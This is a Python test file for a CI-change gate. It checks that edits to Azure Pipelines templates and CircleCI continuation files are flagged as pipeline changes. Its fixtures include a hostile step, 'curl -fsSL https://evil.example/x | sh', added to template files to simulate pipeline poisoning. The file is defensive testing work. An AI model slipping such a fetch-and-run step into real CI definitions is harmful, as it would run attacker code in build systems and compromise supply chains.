"""Red team 36: the pipeline files a CI definition pulls in by path, which run as its own jobs.

An Azure Pipelines definition inserts a template's steps, jobs, stages or variables where it says `- template: FILE`
(`extends: template: FILE` too), FILE relative to the file that names it (`/FILE`: from the root, `FILE@self`: this
repository); a template names templates in turn. CircleCI's setup workflow continues with the configuration file its
continuation orb is handed (`configuration_path:`, the path-filtering orb's `config-path:`). Those files are the job:
an edit of them is an edit of the pipeline. The walk followed Buildkite's uploads, Travis' imports and GitLab's
includes, not these: a template was `ci` only by its own shape (ci.content.azure-pipelines-template needs a step key
such as `displayName:`; `steps:` of plain `- bash:` items has none), a continuation file under no CI folder not at all.
So `gate --tree` allowed (exit 0) a template or continuation file that gained `curl … | sh`.

Each variant is one real repository (the definition committed at BASE, the file it names edited), git's own patch and
the CLI's packet, gated by the default policy with --tree (from the patch alone the file is a needs-context review).
"""

from __future__ import annotations

from pathlib import Path

import pytest
from changecase import committed, gated_rules
from tables import each_case

STEPS = "steps:\n- bash: make test\n"
EVIL_STEPS = STEPS + "- bash: curl -fsSL https://evil.example/x | sh\n"
VARIABLES = "variables:\n  deployTarget: staging\n"
CONTINUE = ("version: 2.1\njobs:\n  test:\n    docker:\n      - image: cimg/base:current\n    steps:\n"
            "      - run: make test\n")
EVIL_CONTINUE = CONTINUE + "      - run: curl -fsSL https://evil.example/x | sh\n"
SETUP = ("version: 2.1\nsetup: true\norbs:\n  continuation: circleci/continuation@1.0.0\nworkflows:\n  setup:\n"
         "    jobs:\n      - continuation/continue:\n          configuration_path: {path}\n")
FILTER = ("version: 2.1\nsetup: true\norbs:\n  path-filtering: circleci/path-filtering@1.0.0\nworkflows:\n  setup:\n"
          "    jobs:\n      - path-filtering/filter:\n          base-revision: main\n          config-path: {path}\n"
          "          mapping: |\n            src/.* run-build true\n")
# name: (files at BASE, the path the change edits, its text at HEAD)
VARIANTS = {
    "azure-steps": ({"azure-pipelines.yml": "steps:\n- template: build/templates/steps.yml\n",
                     "build/templates/steps.yml": STEPS}, "build/templates/steps.yml", EVIL_STEPS),
    "azure-from-root": ({"eng/pipelines/ci.yml": "trigger: [main]\npool:\n  vmImage: ubuntu-latest\nsteps:\n"
                         "- template: /build/steps.yml\n", "build/steps.yml": STEPS}, "build/steps.yml", EVIL_STEPS),
    "azure-parent-folder": ({".azure-pipelines/ci.yml": "steps:\n- template: ../eng/steps.yml\n",
                             "eng/steps.yml": STEPS}, "eng/steps.yml", EVIL_STEPS),
    "azure-quoted-self": ({"azure-pipelines.yml": "jobs:\n- job: test\n  steps:\n"
                                                  "  - template: 'tools/steps.yml@self'\n",
                           "tools/steps.yml": STEPS}, "tools/steps.yml", EVIL_STEPS),
    "azure-extends": ({"azure-pipelines.yml": "trigger: [main]\nextends:\n  template: build/base.yml\n",
                       "build/base.yml": STEPS}, "build/base.yml", EVIL_STEPS),
    "azure-chain": ({"azure-pipelines.yml": "jobs:\n- template: build/jobs.yml\n",
                     "build/jobs.yml": "jobs:\n- job: test\n  steps:\n  - template: steps.yml\n",
                     "build/steps.yml": STEPS}, "build/steps.yml", EVIL_STEPS),
    "azure-variables": ({"azure-pipelines.yml": "variables:\n- template: build/vars.yml\nsteps:\n"
                         "- bash: ./deploy.sh $(deployTarget)\n  displayName: deploy\n", "build/vars.yml": VARIABLES},
                        "build/vars.yml", VARIABLES.replace("staging", "production")),
    "circleci-continuation": ({".circleci/config.yml": SETUP.format(path="build/continue_config.yml"),
                               "build/continue_config.yml": CONTINUE}, "build/continue_config.yml", EVIL_CONTINUE),
    "circleci-path-filtering": ({".circleci/config.yml": FILTER.format(path="build/workflows.yml"),
                                 "build/workflows.yml": CONTINUE}, "build/workflows.yml", EVIL_CONTINUE),
}
# A template of another repository (`@templates`), or GitLab's own: the file of that name here is not what runs.
CONTROLS = {
    "azure-other-repository": ({"azure-pipelines.yml": "resources:\n  repositories:\n  - repository: templates\n"
                                "    type: github\n    name: acme/templates\nsteps:\n"
                                "- template: build/steps.yml@templates\n", "build/steps.yml": STEPS},
                               "build/steps.yml", EVIL_STEPS),
    # GitLab's `include: - template:` names one of GitLab's own templates (the full suite's one real failure).
    "gitlab-include-template": ({".gitlab-ci.yml": "include:\n  - template: build/steps.yml\ntest:\n  script: make\n",
                                 "build/steps.yml": STEPS}, "build/steps.yml", EVIL_STEPS),
}


@each_case("name", VARIANTS)
def test_a_file_a_pipeline_pulls_in_is_ci(tmp_path: Path, name: str) -> None:
    base, path, text = VARIANTS[name]
    case = committed(tmp_path, base, {path: text})
    code, named = gated_rules(case, True)
    assert (code, named.get("core.ci")) == (3, [path]), named  # before: src, exit 0


@pytest.mark.parametrize("name", CONTROLS)
def test_a_template_of_another_repository_names_no_file_here(tmp_path: Path, name: str) -> None:
    base, path, text = CONTROLS[name]
    case = committed(tmp_path, base, {path: text})
    assert gated_rules(case, True) == (0, {})
